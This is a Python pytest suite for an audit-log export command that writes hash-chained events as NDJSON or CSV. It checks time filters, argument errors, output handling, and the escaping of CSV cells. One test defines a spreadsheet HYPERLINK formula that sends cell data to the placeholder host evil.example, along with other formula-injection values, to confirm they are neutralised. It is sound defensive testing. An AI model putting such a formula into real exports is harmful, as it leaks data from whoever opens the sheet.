"""`todo-api audit export`: events as NDJSON or CSV, closed by each chain's head."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import threading
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from audit.chain import compute_hash
from audit.export import escape_cell, read_anchors, unescape_cell
from audit.verify import Anchor
from service.app import create_app
from service.auth import create_dev_token
from service.database import Database, build_engine
from service.settings import Settings
from tests.audit_helpers import change, events_of, json_lines, run_cli, scratch_database
from tests.jwt_helpers import random_id
from tests.support import ApiUser, create_task

EVENT_FIELDS = [
    "id", "occurred_at", "user_id", "actor_id", "action", "entity_type", "entity_id", "before",
    "after", "changes", "request_id", "trace_id", "span_id", "client_ip", "user_agent", "seq",
    "prev_hash", "hash", "hash_version", "caused_by_seq",
]  # fmt: skip
RFC3339_UTC = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z")


def make_history(client: TestClient, user: Any) -> None:
    """Five events: created, updated, completed, reopened, deleted."""
    task = create_task(client, user, "Exported", 'with, a comma and "quotes"\nand a newline')
    change(client, "PUT", f"/{task['id']}", user, json={"title": "Exported \u2713"})
    change(client, "PATCH", f"/{task['id']}/complete", user)
    change(client, "PATCH", f"/{task['id']}/complete", user)
    change(client, "DELETE", f"/{task['id']}", user)


def verify_head(client: TestClient, user: Any) -> tuple[int, str]:
    report = client.get(f"/api/{user.user_id}/audit-events/verify", headers=user.headers).json()
    assert report["ok"] is True
    return report["head_seq"], report["head_hash"]


def test_ndjson_export_of_one_user(
    client: TestClient, user: Any, settings: Settings, database: Database, tmp_path: Path
) -> None:
    make_history(client, user)
    output = tmp_path / "audit.ndjson"
    status, out, err = run_cli(
        settings,
        "audit",
        "export",
        "--user",
        user.user_id,
        "--format",
        "ndjson",
        "--output",
        str(output),
    )
    assert status == 0 and out == ""
    assert err == f"Exported 5 events of 1 chains to {output}\n"
    assert not (tmp_path / "audit.ndjson.partial").exists()

    *events, closing = json_lines(output.read_text(encoding="utf-8"))
    stored = events_of(database.engine, user.user_id)
    assert [e["seq"] for e in events] == [1, 2, 3, 4, 5]
    for event, row in zip(events, stored, strict=True):
        assert list(event) == ["record", *EVENT_FIELDS]
        assert event["record"] == "event"
        assert RFC3339_UTC.fullmatch(event["occurred_at"])
        assert {k: v for k, v in event.items() if k not in ("record", "occurred_at")} == {
            k: row[k] for k in EVENT_FIELDS if k != "occurred_at"
        }
        assert compute_hash(event) == event["hash"]
    head_seq, head_hash = verify_head(client, user)
    assert closing["record"] == "end"
    assert closing["count"] == 5
    assert closing["chains"] == [
        {"user_id": user.user_id, "events": 5, "head_seq": head_seq, "head_hash": head_hash}
    ]
    assert closing["filters"] == {"user_id": user.user_id, "since": None, "until": None}
    assert RFC3339_UTC.fullmatch(closing["exported_at"])


def _from_csv(row: dict[str, str]) -> dict[str, Any]:
    """A CSV event row back to the stored values (empty cell = null)."""
    event: dict[str, Any] = {k: (v if v != "" else None) for k, v in row.items()}
    for key in ("before", "after", "changes"):
        event[key] = json.loads(event[key]) if event[key] is not None else None
    for key in ("id", "seq", "hash_version"):
        event[key] = int(event[key])
    if event["caused_by_seq"] is not None:
        event["caused_by_seq"] = int(event["caused_by_seq"])
    return event


def test_csv_export_of_one_user(
    client: TestClient, user: Any, settings: Settings, database: Database
) -> None:
    make_history(client, user)
    status, out, _ = run_cli(settings, "audit", "export", "--user", user.user_id, "--format", "csv")
    assert status == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert list(rows[0]) == ["record", *EVENT_FIELDS, "count"]
    events = [row for row in rows if row["record"] == "event"]
    stored = events_of(database.engine, user.user_id)
    for row, stored_row in zip(events, stored, strict=True):
        event = _from_csv({k: v for k, v in row.items() if k in EVENT_FIELDS})
        assert compute_hash(event) == event["hash"] == stored_row["hash"]
        assert event["after"] == stored_row["after"]
    head_seq, head_hash = verify_head(client, user)
    chain_rows = [row for row in rows if row["record"] == "chain"]
    assert [(r["user_id"], r["seq"], r["hash"], r["count"]) for r in chain_rows] == [
        (user.user_id, str(head_seq), head_hash, "5")
    ]
    end = rows[-1]
    assert end["record"] == "end" and end["count"] == "5"
    assert RFC3339_UTC.fullmatch(end["occurred_at"])
    assert len(rows) == 5 + 1 + 1


def test_time_window(client: TestClient, user: Any, settings: Settings, database: Database) -> None:
    make_history(client, user)
    times = [e["occurred_at"] for e in events_of(database.engine, user.user_id)]
    status, out, _ = run_cli(
        settings,
        "audit",
        "export",
        "--user",
        user.user_id,
        "--format",
        "ndjson",
        "--since",
        times[1].isoformat(),
        "--until",
        times[3].isoformat(),
    )
    assert status == 0
    *events, closing = json_lines(out)
    assert [e["seq"] for e in events] == [2, 3]  # since inclusive, until exclusive
    # The head is the chain's whole head, not the last exported event.
    assert closing["count"] == 2
    assert closing["chains"][0]["events"] == 2
    assert closing["chains"][0]["head_seq"] == 5
    assert closing["filters"]["since"] == times[1].strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def test_a_since_finer_than_a_microsecond_is_rounded_up(
    client: TestClient, user: Any, settings: Settings, database: Database
) -> None:
    """As the feed's: cut, `--since` of an event's time plus half a microsecond included it."""
    make_history(client, user)
    times = [e["occurred_at"] for e in events_of(database.engine, user.user_id)]
    half_after = times[3].strftime("%Y-%m-%dT%H:%M:%S.%f") + "5Z"
    argv = ["audit", "export", "--user", user.user_id, "--format", "ndjson"]
    status, out, _ = run_cli(settings, *argv, "--since", half_after)
    assert status == 0
    assert [e["seq"] for e in json_lines(out)[:-1]] == [5]
    status, out, _ = run_cli(settings, *argv, "--until", half_after)
    assert [e["seq"] for e in json_lines(out)[:-1]] == [1, 2, 3, 4]
    # ISO 8601's decimal comma, which the command also reads, rounds the same way.
    status, out, _ = run_cli(settings, *argv, "--since", half_after.replace(".", ","))
    assert status == 0
    assert [e["seq"] for e in json_lines(out)[:-1]] == [5]


def test_export_of_a_user_without_events(settings: Settings) -> None:
    status, out, _ = run_cli(
        settings, "audit", "export", "--user", "nobody-" + "x" * 20, "--format", "ndjson"
    )
    assert status == 0
    (closing,) = json_lines(out)
    assert (closing["count"], closing["chains"]) == (0, [])


@pytest.mark.parametrize(
    "args",
    [
        ["--format", "xml"],
        [],  # --format is required
        ["--format", "csv", "--since", "2026-01-01T00:00:00"],  # no time zone
        ["--format", "csv", "--until", "tomorrow"],
        ["--format", "csv", "--until", "9999-12-31T23:59:59-12:00"],
        ["--format", "csv", "--user", ""],
        ["--format", "csv", "--user", "u" * 129],
    ],
)
def test_bad_arguments_exit_2(settings: Settings, args: list[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        run_cli(settings, "audit", "export", *args)
    assert exited.value.code == 2


def test_since_after_until_exits_2(settings: Settings) -> None:
    status, out, err = run_cli(
        settings,
        "audit",
        "export",
        "--format",
        "csv",
        "--since",
        "2026-02-01T00:00:00Z",
        "--until",
        "2026-01-01T00:00:00+00:00",
    )
    assert (status, out) == (2, "")
    assert "--since must be earlier than --until" in err


def test_unwritable_output(settings: Settings, tmp_path: Path) -> None:
    target = tmp_path / "missing-dir" / "audit.csv"
    status, _, err = run_cli(
        settings, "audit", "export", "--format", "csv", "--user", "u1", "--output", str(target)
    )
    assert status == 1
    assert "cannot write the export" in err
    assert not target.exists()


def test_export_of_every_chain(base_settings: Settings, make_user: Any, tmp_path: Path) -> None:
    """All users, by user then seq, with one head per chain; on a database of its own."""
    with scratch_database() as url:
        settings = base_settings.model_copy(update={"database_url": url})
        db = Database(build_engine(settings))
        try:
            users = [make_user() for _ in range(3)]
            with TestClient(create_app(settings, db)) as client:
                for user in users:
                    make_history(client, user)
                heads = {u.user_id: verify_head(client, u) for u in users}
            output = tmp_path / "all.ndjson"
            args = ("audit", "export", "--format", "ndjson", "--output", str(output))
            assert run_cli(settings, *args)[0] == 0
        finally:
            db.dispose()
    *events, closing = json_lines(output.read_text(encoding="utf-8"))
    assert closing["count"] == len(events) == 15
    # Each chain in one run, in seq order (chains in the database's collation order).
    runs = [user_id for n, user_id in enumerate(e["user_id"] for e in events) if n % 5 == 0]
    assert sorted(runs) == sorted(heads)
    assert [(e["user_id"], e["seq"]) for e in events] == [
        (user_id, seq) for user_id in runs for seq in range(1, 6)
    ]
    assert {c["user_id"]: (c["head_seq"], c["head_hash"]) for c in closing["chains"]} == heads
    assert all(c["events"] == 5 for c in closing["chains"])


@pytest.mark.parametrize(
    "args", [["verify"], ["verify", "--user", "someone"], ["export", "--format", "csv"]]
)
def test_unreachable_database_exits_3(settings: Settings, args: list[str]) -> None:
    nowhere = settings.model_copy(update={"database_url": "postgresql://postgres@127.0.0.1:9/x"})
    status, out, err = run_cli(nowhere, "audit", *args)
    assert status == 3
    assert "the database is unreachable" in err
    assert out == ""


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_csv_cells_a_spreadsheet_would_run_are_escaped(
    client: TestClient, settings: Settings, database: Database, tmp_path: Path
) -> None:
    """Client text (request id, User-Agent, user id) starting a cell with `=` was written raw,
    and a spreadsheet ran it. The CSV shows it as text; NDJSON keeps it exact; both verify."""
    assert settings.better_auth_secret is not None
    user = ApiUser(
        user_id := "=1+2" + random_id(12),
        create_dev_token(settings.better_auth_secret.get_secret_value(), user_id),
    )
    headers = {**user.headers, "X-Request-ID": "-2+3", "User-Agent": FORMULA}
    created = client.post(user.url(), json={"title": "@SUM(A1)"}, headers=headers)
    assert created.status_code == 201, created.text
    change(client, "DELETE", f"/{created.json()['id']}", user)
    export = tmp_path / "audit.csv"
    args = ("audit", "export", "--user", user_id, "--output")
    assert run_cli(settings, *args, str(export), "--format", "csv")[0] == 0
    ndjson = tmp_path / "audit.ndjson"
    assert run_cli(settings, *args, str(ndjson), "--format", "ndjson")[0] == 0

    with export.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    header, first, *_ = rows
    event = dict(zip(header, first, strict=True))
    assert (event["user_id"], event["actor_id"]) == ("'" + user_id, "'" + user_id)
    assert (event["request_id"], event["user_agent"]) == ("'-2+3", "'" + FORMULA)
    # Undone exactly: the stored values and their hashes come back from the file.
    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    events = [
        _from_csv({k: unescape_cell(v) for k, v in r.items() if k in EVENT_FIELDS})
        for r in records
        if r["record"] == "event"
    ]
    stored = events_of(database.engine, user_id)
    assert (
        [compute_hash(e) for e in events]
        == [e["hash"] for e in events]
        == [row["hash"] for row in stored]
    )
    assert (events[0]["request_id"], events[0]["user_agent"]) == ("-2+3", FORMULA)
    # NDJSON is the stored text, unescaped.
    first_event = json_lines(ndjson.read_text(encoding="utf-8"))[0]
    assert (first_event["user_id"], first_event["request_id"]) == (user_id, "-2+3")
    assert first_event["user_agent"] == FORMULA
    # `verify --against` reads the chain's head from either file under the user's real id.
    head = Anchor(seq=2, hash=stored[-1]["hash"])
    assert read_anchors(export) == read_anchors(ndjson) == {user_id: head}


@pytest.mark.parametrize(
    "value", ["=1", "+1", "-1", "@A1", "\tx", "\rx", "'", "'=1", "''", "a=b", "", "1"]
)
def test_escaping_a_csv_cell_is_undone_exactly(value: str) -> None:
    cell = escape_cell(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unescape_cell(cell) == value


def test_an_export_waiting_on_its_reader_is_not_ended_as_a_frozen_client(
    settings: Settings, client: TestClient, user: Any
) -> None:
    """DB_IDLE_IN_TRANSACTION_TIMEOUT_MS ends a transaction idle that long (a frozen worker's);
    the commands' snapshot waits on whoever reads the export (`| less`) and is exempt."""
    import time

    from sqlalchemy import text

    from audit.cli import _snapshot

    make_history(client, user)
    quick = settings.model_copy(update={"db_idle_in_transaction_timeout_ms": 200})
    with _snapshot(quick) as conn:
        first = conn.execute(text("SELECT count(*) FROM audit_events")).scalar_one()
        time.sleep(1.0)  # the reader is slow: five times the idle bound
        assert conn.execute(text("SELECT count(*) FROM audit_events")).scalar_one() == first


def test_verify_and_export_read_their_snapshot_without_a_statement_timeout(
    settings: Settings,
) -> None:
    """A whole database's chains take longer than a request's bound (DB_STATEMENT_TIMEOUT_MS,
    or the role's statement_timeout behind a pooler): the snapshot lifts it, as migrations do."""
    from sqlalchemy import text

    from audit.cli import _snapshot

    quick = settings.model_copy(update={"db_statement_timeout_ms": 10})
    with _snapshot(quick) as conn:
        assert conn.execute(text("SHOW statement_timeout")).scalar_one() == "0"
        conn.execute(text("SELECT pg_sleep(0.1)"))  # ten times the bound


def test_an_output_that_is_no_regular_file_is_written_into_not_replaced(
    client: TestClient, user: Any, settings: Settings, tmp_path: Path
) -> None:
    """`--output /dev/null` (here through a link to it), or a FIFO: renaming a finished file
    over them would replace the device itself (run as root, /dev/null became a file)."""
    make_history(client, user)
    args = ("audit", "export", "--user", user.user_id, "--format", "ndjson", "--output")
    to_null = tmp_path / "null"
    to_null.symlink_to(os.devnull)
    assert run_cli(settings, *args, str(to_null))[0] == 0
    assert to_null.is_symlink() and stat.S_ISCHR(os.stat(os.devnull).st_mode)

    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    read: list[bytes] = []
    reader = threading.Thread(target=lambda: read.append(fifo.read_bytes()), daemon=True)
    reader.start()
    assert run_cli(settings, *args, str(fifo))[0] == 0
    reader.join(timeout=30)
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert [e["seq"] for e in json_lines(read[0].decode())[:-1]] == [1, 2, 3, 4, 5]


def test_an_output_through_a_symbolic_link_replaces_the_file_and_keeps_the_link(
    client: TestClient, user: Any, settings: Settings, tmp_path: Path
) -> None:
    make_history(client, user)
    kept = tmp_path / "exports" / "latest.ndjson"
    kept.parent.mkdir()
    kept.write_text("old\n")
    link = tmp_path / "audit.ndjson"
    link.symlink_to(kept)
    args = ("audit", "export", "--user", user.user_id, "--format", "ndjson", "--output")
    assert run_cli(settings, *args, str(link))[0] == 0
    assert link.is_symlink() and link.resolve() == kept.resolve()
    assert [e["seq"] for e in json_lines(kept.read_text())[:-1]] == [1, 2, 3, 4, 5]
    assert sorted(p.name for p in kept.parent.iterdir()) == ["latest.ndjson"]
